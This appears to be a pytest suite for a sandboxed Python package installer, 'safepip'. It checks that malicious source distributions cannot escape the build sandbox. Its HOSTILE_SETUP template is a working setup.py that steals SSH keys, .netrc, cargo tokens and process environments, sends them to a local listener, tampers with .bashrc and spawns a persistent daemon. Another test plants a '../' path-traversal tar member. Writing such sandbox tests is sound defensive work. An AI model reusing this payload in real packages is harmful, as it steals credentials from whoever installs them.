"""Hostile and ordinary sdists built through `safepip install`, in every sandbox backend in turn."""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.buildkit import add_backends, make_project_sdist
from tests.conftest import run_safepip
from tests.kit import Index, IndexServer, isolated_environ, tree_digest

# Every Linux backend must pass its self-test here: a machine where one cannot fails the suite.
BACKENDS = ("bwrap", "userns", "landlock")
# Written into HOME by the host itself on any install, wheels only included (the cache, and a
# rustup proxy on this machine's PATH): not the build's doing, so left out of the comparison.
HOST_DIRS = ("__pycache__", ".cache", ".rustup")


@pytest.fixture(scope="session")
def build_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One cache per test session, so build environments are made once (keyed by contents)."""
    return tmp_path_factory.mktemp("build-cache")


@pytest.fixture
def backend_index(index: Index) -> Index:
    add_backends(index)
    return index


class Listener:
    """A TCP listener on 127.0.0.1 that records every byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.received = bytearray()
        self.connections = 0
        self.stopped = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return int(self.sock.getsockname()[1])

    def _serve(self) -> None:
        while not self.stopped:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self.stopped = True
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


def _env(home: Path, backend: str, **extra: str) -> dict[str, str]:
    return isolated_environ(home, {"SAFEPIP_SANDBOX_BACKEND": backend, **extra})


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry))
    return found


def _gone(marker: str, within: float = 5.0) -> bool:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        if not _processes_with(marker):
            return True
        time.sleep(0.05)
    return False


HOSTILE_SETUP = """
import glob, os, socket, subprocess, sys
stolen = []
for path in ("~/.ssh/id_rsa", "~/.netrc", {home_ssh!r}, {home_netrc!r}, {home_cargo!r}):
    try:
        stolen.append(open(os.path.expanduser(path)).read())
    except OSError:
        pass
stolen.append(os.environ.get("SECRET_TOKEN", ""))
for environ in glob.glob("/proc/*/environ"):
    try:
        stolen.append(open(environ, "rb").read().decode(errors="replace"))
    except OSError:
        pass
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall("\\n".join(stolen).encode())
    s.close()
except OSError:
    pass
for target in ({outside!r}, os.path.expanduser("~/.bashrc"), {home_bashrc!r}):
    try:
        open(target, "a").write("owned\\n")
    except OSError:
        pass
daemon = (
    "import os, socket, time\\n"
    "if os.fork(): os._exit(0)\\n"
    "os.setsid()\\n"
    "if os.fork(): os._exit(0)\\n"
    "while True:\\n"
    "    try: socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'daemon')\\n"
    "    except OSError: pass\\n"
    "    time.sleep(0.2)\\n"
)
subprocess.Popen([sys.executable, "-c", daemon, {marker!r}]).wait()
# What it could read also goes into the wheel it builds, where the test can look.
open(os.path.join("hostile", "stolen.py"), "w").write("STOLEN = " + repr(stolen) + "\\n")
from setuptools import setup
setup(name="hostile", version="1.0", packages=["hostile"])
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_hostile_build_reaches_nothing_and_ordinary_sdists_install(
    backend: str,
    backend_index: Index,
    target_venv: Path,
    tmp_path: Path,
    isolate: Path,
    listener: Listener,
    build_cache: Path,
) -> None:
    home = isolate
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("CANARY-SSH-KEY")
    (home / ".netrc").write_text("machine example login me password CANARY-NETRC")
    # A Rust toolchain is visible to builds, but never cargo's credentials beside it.
    (home / ".cargo" / "bin").mkdir(parents=True)
    (home / ".cargo" / "credentials.toml").write_text('[registry]\ntoken = "CANARY-CARGO"\n')
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("unchanged")
    marker = f"safepip-daemon-{backend}-{os.getpid()}"
    setup_py = HOSTILE_SETUP.format(
        port=listener.port,
        outside=str(outside / "keep"),
        home_ssh=str(home / ".ssh" / "id_rsa"),
        home_netrc=str(home / ".netrc"),
        home_cargo=str(home / ".cargo" / "credentials.toml"),
        home_bashrc=str(home / ".bashrc"),
        marker=marker,
    )
    backend_index.add(make_project_sdist("hostile", "1.0", setup_py=setup_py), project="hostile")
    backend_index.add(make_project_sdist("hatch-demo", "2.0", "hatchling"), project="hatch-demo")
    backend_index.add(make_project_sdist("flit-demo", "3.0", "flit"), project="flit-demo")
    backend_index.add(make_project_sdist("tools-demo", "1.5", "setuptools"), project="tools-demo")
    # The static scan would refuse this setup.py before it runs; the sandbox is what is tested.
    policy = tmp_path / "policy.toml"
    policy.write_text('[scan]\nallow = ["hostile"]\n')
    before_home, before_outside = tree_digest(home, HOST_DIRS), tree_digest(outside)
    listed = _listing(home)
    with IndexServer(backend_index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "--policy",
            str(policy),
            "-i",
            srv.simple_url,
            "hostile",
            "hatch-demo",
            "flit-demo",
            "tools-demo",
            env=_env(home, backend, SECRET_TOKEN="CANARY-ENV-SECRET"),
        )
    assert r.returncode == 0, r.stdout + r.stderr
    assert f"in the {backend} sandbox" in r.stdout
    site = next((target_venv / "lib").glob("python*/site-packages"))
    stolen = (site / "hostile" / "stolen.py").read_text()
    assert "CANARY" not in stolen and "STOLEN = [" in stolen
    for module, version in (("hatch_demo", "2.0"), ("flit_demo", "3.0"), ("tools_demo", "1.5")):
        assert (site / module / "__init__.py").read_text() == f"__version__ = {version!r}\n"
        assert any(site.glob(f"{module}-{version}.dist-info"))
    assert _gone(marker), "the daemon started by setup.py survived the build"
    listener.close()
    assert listener.connections == 0 and not listener.received, bytes(listener.received)[:200]
    assert _listing(home) == listed
    assert tree_digest(home, HOST_DIRS) == before_home
    assert tree_digest(outside) == before_outside
    assert not (home / ".bashrc").exists()


@pytest.mark.parametrize("backend", BACKENDS)
def test_endless_build_is_stopped_at_the_timeout(
    backend: str,
    backend_index: Index,
    target_venv: Path,
    isolate: Path,
    tmp_path: Path,
    build_cache: Path,
) -> None:
    marker = f"safepip-endless-{backend}-{os.getpid()}"
    setup_py = f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'while True: pass', {marker!r}])\nwhile True:\n    pass\n"
    backend_index.add(make_project_sdist("endless", "1.0", setup_py=setup_py), project="endless")
    policy = tmp_path / "policy.toml"
    policy.write_text("[sandbox]\ntimeout = 2\n")
    with IndexServer(backend_index) as srv:
        started = time.monotonic()
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "--policy",
            str(policy),
            "-i",
            srv.simple_url,
            "endless",
            env=_env(isolate, backend),
        )
        elapsed = time.monotonic() - started
    assert r.returncode == 1, r.stdout + r.stderr
    assert "build-timeout" in r.stderr and "after the 2 s timeout" in r.stderr
    assert "Traceback" not in r.stderr
    assert elapsed < 60
    assert _gone(marker)
    assert not any(next((target_venv / "lib").glob("python*/site-packages")).glob("endless*"))


def _listing(root: Path) -> list[str]:
    return sorted(
        str(p.relative_to(root))
        for p in root.rglob("*")
        if not set(p.relative_to(root).parts) & set(HOST_DIRS)
    )


def _sdist_with_member(name: str, member: str, data: bytes) -> tuple[str, bytes]:
    import io
    import tarfile

    filename, raw = make_project_sdist(
        name, "1.0", setup_py="from setuptools import setup\nsetup()\n"
    )
    buf = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(raw)) as src,
        tarfile.open(fileobj=buf, mode="w:gz") as dst,
    ):
        for info in src:
            dst.addfile(info, src.extractfile(info))
        evil = tarfile.TarInfo(member)
        evil.size = len(data)
        dst.addfile(evil, io.BytesIO(data))
    return filename, buf.getvalue()


def test_dotdot_member_is_refused_before_any_build(
    backend_index: Index, target_venv: Path, isolate: Path, tmp_path: Path, build_cache: Path
) -> None:
    backend_index.add(
        _sdist_with_member("dotdot", "dotdot-1.0/../../../../escaped.txt", b"owned"),
        project="dotdot",
    )
    with IndexServer(backend_index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "-i",
            srv.simple_url,
            "dotdot",
            env=_env(isolate, ""),
        )
    assert r.returncode == 3, r.stdout + r.stderr
    assert "unsafe-sdist" in r.stderr and "leaving its directory" in r.stderr
    assert "Building" not in r.stdout
    assert not list(Path("/tmp").glob("escaped.txt")) and not list(tmp_path.rglob("escaped.txt"))


def test_unsandboxed_opt_out_is_explicit_and_loud(
    backend_index: Index, target_venv: Path, isolate: Path, build_cache: Path
) -> None:
    backend_index.add(make_project_sdist("optout", "1.0"), project="optout")
    with IndexServer(backend_index) as srv:
        args = (
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "-i",
            srv.simple_url,
            "optout",
        )
        refused = run_safepip(*args, env=_env(isolate, "sandbox-exec"))
        allowed = run_safepip(
            *args, "--unsafe-unsandboxed-build", env=_env(isolate, "sandbox-exec")
        )
    assert refused.returncode == 3 and "no-sandbox" in refused.stderr
    assert "sandbox-exec: sandbox-exec exists only on macOS" in refused.stderr
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert "WITHOUT A SANDBOX" in allowed.stderr


def test_a_project_file_cannot_opt_out(
    backend_index: Index, target_venv: Path, isolate: Path, tmp_path: Path, build_cache: Path
) -> None:
    """A project's own safepip.toml may only tighten: its allow-unsandboxed is ignored."""
    backend_index.add(make_project_sdist("optout", "1.0"), project="optout")
    project = tmp_path / "project"
    project.mkdir()
    (project / "safepip.toml").write_text("[sandbox]\nallow-unsandboxed = true\n")
    with IndexServer(backend_index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "-i",
            srv.simple_url,
            "optout",
            env=_env(isolate, "sandbox-exec"),
            cwd=project,
        )
    assert r.returncode == 3 and "no-sandbox" in r.stderr, r.stdout + r.stderr


def test_debug_sandbox_names_the_backend_and_why_not_the_others(
    isolate: Path, target_venv: Path
) -> None:
    r = run_safepip("debug", "sandbox", env=_env(isolate, ""))
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0] == "bwrap: chosen (self-test passed)"
    assert "sandbox-exec: not used: sandbox-exec exists only on macOS" in lines
    assert lines[-1] == "sandbox: bwrap"
    forced = run_safepip("debug", "sandbox", env=_env(isolate, "landlock"))
    assert "landlock: chosen (self-test passed)" in forced.stdout.splitlines()
    assert "bwrap: not tried (not in the override list)" in forced.stdout.splitlines()
    other = run_safepip("debug", "--python", str(target_venv / "bin/python"), env=_env(isolate, ""))
    assert other.returncode == 0 and "pip version:" in other.stdout, other.stderr


INTREE_BACKEND = """
import base64, hashlib, os, zipfile

def get_requires_for_build_wheel(config_settings=None):
    return ["helper-dep>=1"]

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import helper_dep  # only there if the dynamic requirement was installed
    name = "intree-1.0-py3-none-any.whl"
    files = {
        "intree/__init__.py": ("HELPER = %r\\n" % helper_dep.__version__).encode(),
        "intree-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: intree\\nVersion: 1.0\\n",
        "intree-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    def digest(data):
        raw = hashlib.sha256(data).digest()
        return "sha256=" + base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
    record = "".join("%s,%s,%d\\n" % (p, digest(d), len(d)) for p, d in files.items())
    files["intree-1.0.dist-info/RECORD"] = (record + "intree-1.0.dist-info/RECORD,,\\n").encode()
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as zf:
        for path, data in files.items():
            zf.writestr(path, data)
    return name
"""


def test_dynamic_build_requirements_and_a_backend_without_prepare_metadata(
    index: Index, target_venv: Path, isolate: Path, build_cache: Path
) -> None:
    """get_requires_for_build_wheel's answer is resolved to wheels and installed before the next
    hook; a backend with no prepare_metadata_for_build_wheel is asked for the wheel instead."""
    index.wheel("helper-dep", "1.5")
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "intree_backend"\n'
        'backend-path = ["_backend"]\n'
    )
    index.add(
        make_project_sdist(
            "intree",
            "1.0",
            pyproject=pyproject,
            extra_files={"_backend/intree_backend.py": INTREE_BACKEND.encode()},
        ),
        project="intree",
    )
    with IndexServer(index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--cache-dir",
            str(build_cache),
            "-i",
            srv.simple_url,
            "intree",
            env=_env(isolate, ""),
        )
    assert r.returncode == 0, r.stdout + r.stderr
    site = next((target_venv / "lib").glob("python*/site-packages"))
    assert (site / "intree" / "__init__.py").read_text() == "HELPER = '1.5'\n"
    assert not (site / "helper_dep").exists()  # a build requirement, not an install
